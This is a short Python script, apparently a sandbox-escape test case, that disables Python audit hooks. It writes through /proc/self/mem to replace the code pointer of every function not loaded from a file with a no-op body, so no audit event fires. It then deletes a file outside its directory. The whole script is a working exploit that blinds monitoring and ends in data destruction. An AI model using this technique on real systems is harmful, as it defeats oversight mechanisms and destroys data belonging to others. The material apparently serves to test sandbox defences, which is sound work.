# Functions get another body in memory, where no audit event tells of it.
# damage: deleted
# needs: linux, x86_64
import gc
import os
import struct
import sys
import threading
import types


def harmless(event, arguments):
    pass


memory = os.open(f"/proc/self/task/{threading.get_native_id()}/mem", os.O_RDWR)
body = struct.pack("Q", id(harmless.__code__))
place = os.pread(memory, sys.getsizeof(harmless), id(harmless)).index(body)
for function in [item for item in gc.get_objects() if isinstance(item, types.FunctionType)]:
    name = function.__code__.co_filename
    if not os.path.exists(name) and "frozen" not in name and function is not harmless:
        os.pwrite(memory, body, id(function) + place)
os.unlink("../outside/victim.txt")
